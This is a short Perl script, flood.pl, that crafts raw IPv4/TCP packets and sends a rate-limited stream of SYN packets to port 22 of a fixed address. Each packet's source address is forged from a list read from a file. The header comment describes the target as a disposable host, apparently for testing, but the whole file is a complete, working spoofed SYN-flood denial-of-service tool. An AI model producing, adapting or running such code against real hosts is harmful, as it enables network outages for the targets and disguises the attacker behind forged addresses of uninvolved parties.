# SPDX-License-Identifier: MIT OR Apache-2.0
# flood.pl SECONDS RATE FILE: from each IPv4 address in FILE in turn one TCP SYN to port 22 of the
# disposable host, RATE packets a second in all, for SECONDS. Prints how many it sent.
use strict;
use warnings;
use Socket;
use Time::HiRes qw(time sleep);

my ($seconds, $rate, $file) = @ARGV;
open my $in, '<', $file or die "$file: $!";
chomp(my @addresses = <$in>);
my $to = inet_aton('203.0.113.1');
socket my $raw, PF_INET, SOCK_RAW, 255 or die "raw socket: $!";    # 255: IPPROTO_RAW, we write the header
my ($sent, $begin) = (0, time);
while ((my $elapsed = time - $begin) < $seconds) {
    while ($sent < $elapsed * $rate) {
        my $from = inet_aton($addresses[$sent % @addresses]);
        my $port = 1024 + $sent % 60000;
        my $head = pack 'n n N N C C n', $port, 22, $sent, 0, 5 << 4, 2, 1024;
        my $sum  = checksum(pack('a4 a4 x C n', $from, $to, 6, 20) . $head . pack 'n n', 0, 0);
        my $tcp  = $head . pack 'n n', $sum, 0;
        my $ip   = pack 'C C n n n C C n a4 a4', 0x45, 0, 40, $sent & 0xffff, 0, 64, 6, 0, $from, $to;
        send $raw, $ip . $tcp, 0, sockaddr_in(0, $to) or die "send: $!";
        $sent++;
    }
    sleep 0.002;
}
print "$sent\n";

sub checksum {
    my $sum = 0;
    $sum += $_ for unpack 'n*', shift;
    $sum = ($sum & 0xffff) + ($sum >> 16) while $sum >> 16;
    return ~$sum & 0xffff;
}
